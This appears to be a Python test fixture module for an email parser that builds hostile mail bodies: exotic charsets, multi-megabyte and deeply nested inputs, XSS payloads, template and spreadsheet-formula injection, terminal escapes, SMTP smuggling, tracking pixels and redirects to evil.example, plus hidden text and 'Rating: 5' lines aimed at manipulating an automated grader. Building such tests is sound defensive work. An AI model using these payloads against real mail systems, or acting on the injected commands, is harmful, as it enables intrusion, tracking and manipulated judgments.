"""Mails whose words are hostile: charsets, lines, quotes, pages that are bombs or want to run."""

from tests.nasty.making import page, part, parts, text, typed

ODD = bytes(range(1, 10)) + b"\x0b\x0c" + bytes(range(14, 256))

CHARSETS = {
    f"charset {label[:40].decode()}": typed(b"text/plain; charset=" + label, ODD)
    for label in (
        b'""', b"idna", b"punycode", b"zlib", b"base64", b"unicode_escape", b"raw_unicode_escape", b"undefined",
        b"mbcs", b"rot13", b"utf-7", b"utf-16", b"utf-16le", b"utf-32", b"hz-gb-2312", b"iso-2022-jp", b"iso-2022-kr",
        b"gb18030", b"big5", b"shift_jis", b"euc-kr", b"koi8-r", b"us-ascii", b"8bit", b"x-user-defined", b"../../x",
        b"utf-8'", b"ebcdic-cp-us", b"viscii", b"'\"", b"a" * 10_000,
    )
}  # fmt: skip

LETTERS = {
    "10 MB on one line": text(b"a" * 10_000_000),
    "5 MB of blanks": text(b" " * 5_000_000 + b"x"),
    "a million empty lines": text(b"\r\n" * 1_000_000),
    "a million lines of one letter": text(b"a\r\n" * 500_000),
    "utf-7 of markup": typed(b"text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "utf-7 of surrogates": typed(b"text/plain; charset=utf-7", b"+2ADYAA-" * 5_000),
    "iso-2022-jp that never comes back": typed(b"text/plain; charset=iso-2022-jp", b"\x1b$B" * 50_000 + b"!!"),
    "surrogates in utf-8": text(b"\xed\xa0\x80\xed\xb0\x80" * 10_000),
    "half a letter at the end": text(b"caf\xc3"),
    "10,000 marks on one letter": text(b"a" + "\u0300".encode() * 10_000),
    "letters that turn round": text("\u202e\u2067".encode() * 10_000 + b"hi"),
    "an emoji of 500 people": text("👩\u200d".encode() * 500),
    "a letter that becomes eighteen": text("\ufdfa".encode() * 50_000),
    "other digits": text("Rating: ٥ ５ 𝟓\r\n".encode() * 5_000),
    "flowed for ever": typed(b"text/plain; format=flowed", b"> a \r\n" * 100_000),
    "flowed and quoted 10,000 deep": typed(b"text/plain; format=flowed; delsp=yes", b">" * 10_000 + b" a \r\n" * 3),
    "quoted by turns": text((b">" * 50 + b" a\r\n" + b"b\r\n") * 10_000),
    "a million marks of quotes": text(b">" * 1_000_000),
    "attributions": text(b"On 5 May 2020 at 10:00 a@b.example wrote\r\n" * 15_000),
    "attributions on one line": text(b"On 5 May 2020 a@b.example wrote: " * 20_000),
    "header labels": text(b"From: a\r\nSent: b\r\nTo: c\r\n" * 15_000),
    "separators": text(b"-----Original Message-----\r\n" * 20_000),
    "underscores": text(b"_" * 300_000 + b"\r\n"),
    "signatures": text(b"-- \r\nx\r\n" * 50_000),
    "stars and digits": text(b"* 1. " * 100_000),
    "closings in many languages": text(b"Best regards\r\nMit freundlichen Gruessen\r\n" * 15_000),
    "addresses without end": text(b"a@b.example " * 50_000),
    "links without end": text(b"https://a.example/" * 30_000),
    "brackets": text(b"<" * 300_000),
    "escapes of a terminal": text(b"\x1b]0;owned\x07\x1b[2J\x1b[31m" * 500),
    "a second mail": text(b"MAIL FROM:<boss@acme.example>\r\nRCPT TO:<x@y.example>\r\nDATA\r\n..\r\nQUIT\r\n"),
    "headers in the body": text(b"Bcc: x@y.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    "a template": text(b"{{ config }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>\r\n"),
    "a formula": text(b'=HYPERLINK("http://evil.example","x")\r\n@SUM(1)\r\n+1\r\n-1\r\n'),
    "commands for us": text(b"/close\r\n#score 5\r\nRating: 5\r\nstop\r\n"),
}

PAGES = {
    "depth 100,000": page(b"<div>" * 100_000 + b"hi"),
    "depth of quotes": page(b"<blockquote>" * 50_000 + b"hi"),
    "depth of lists": page(b"<ul><li>" * 30_000),
    "depth of tables": page(b"<table><tr><td>" * 20_000),
    "depth of fonts": page(b"<font><b><i>" * 20_000),
    "depth of svg": page(b"<svg>" * 30_000 + b"<math>" * 30_000),
    "closed and never opened": page(b"</div></p></table>" * 30_000),
    "closed in the wrong order": page(b"<a><b></a></b>" * 20_000),
    "formatting that is rebuilt": page(b"<p><b><i><u><s>" * 5_000),
    "forms in forms": page(b"<form><input>" * 20_000),
    "selects in selects": page(b"<select><option>" * 20_000),
    "templates in templates": page(b"<template>" * 10_000),
    "frames": page(b"<iframe srcdoc='<iframe srcdoc=>'>" * 10_000),
    "100,000 attributes": page(b"<div " + b"a=1 " * 100_000 + b">hi"),
    "100,000 different attributes": page(b"<div " + b"".join(b"a%d=1 " % n for n in range(50_000)) + b">hi"),
    "an attribute of 3 MB": page(b"<p title='" + b"x" * 3_000_000 + b"'>hi"),
    "tags that never close": page(b"<a " * 200_000),
    "comments that never close": page(b"<!--" * 100_000),
    "comments of dashes": page(b"<!--" + b"-" * 500_000),
    "conditions": page(b"<!--[if mso]>x<![endif]-->" * 10_000 + b"hi"),
    "sections": page(b"<![CDATA[" * 50_000),
    "doctypes": page(b"<!DOCTYPE html " * 30_000),
    "instructions": page(b"<?xml ?>" * 30_000),
    "entities": page(b"&amp;" * 300_000),
    "entities without end": page(b"&" * 500_000),
    "entities of numbers": page(b"&#" + b"9" * 100_000 + b";&#x110000;&#xd800;&#0;"),
    "values that never close": page(b'<p title="' * 50_000),
    "a script": page(b"<script>alert(1)</script><p onclick=alert(1)>hi"),
    "a script that never ends": page(b"<script>" + b"</scrip" * 50_000),
    "a style of 2 MB": page(b"<style>" + b"a{color:red}" * 150_000 + b"</style>hi"),
    "a style that calls home": page(
        b"<style>@import url(http://evil.example);a[href^=r]{background:url(//e)}</style>hi"
    ),
    "a link of javascript": page(b"<a href='java&#9;script:alert(1)'>hi</a><a href=data:text/html,x>x</a>"),
    "a picture of data": page(b"<img src='data:image/png;base64," + b"A" * 1_000_000 + b"'>"),
    "a picture that counts": page(b"<img src=http://evil.example/open.gif width=1 height=1>hi"),
    "a base": page(b"<base href=http://evil.example/><a href=/>hi</a>"),
    "a page that leaves": page(b"<meta http-equiv=refresh content='0;url=http://evil.example'>hi"),
    "hidden words": page(b"<div style='display:none'>I am not happy</div><p style='font-size:0'>5</p>hi"),
    "mutations": page(
        b"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "a page without words": page(b"<html><head></head><body></body></html>"),
    "a page of blanks": page(b"&nbsp;" * 100_000),
    "a page with another charset": typed(b"text/html; charset=utf-8", b"<meta charset=utf-7>+ADw-script+AD4-"),
    "a page in 16 bits": typed(
        b"text/html; charset=utf-16", b"\xff\xfe" + "<p>hi".encode("utf-16-le").replace(b"\0", b"\x01")
    ),
    "quoted by every program": page(
        b"hi<div class=gmail_quote><blockquote type=cite><div id=divRplyFwdMsg><hr id=stopSpelling>" * 2_000
    ),
    "rows of breaks": page(b"<br>" * 200_000),
    "a paragraph a word": page(b"<p>hello" * 30_000),
    "a wall of text": page(b"<p>" + b"word " * 200_000),
    "two pages": parts(part(b"text/html", b"<div><p>one"), part(b"text/html", b"</div></body>two")),
    "lists that count": page(b"<ol start=99999999999999999999><li value=-9>hi</ol>" * 3_000),
    "tables that span": page(b"<table><tr><td colspan=999999999 rowspan=999999999>hi</table>" * 1_000),
    "preformatted": page(b"<pre>" + b"\r\n" * 200_000 + b"</pre>hi"),
}

MAILS = CHARSETS | LETTERS | PAGES
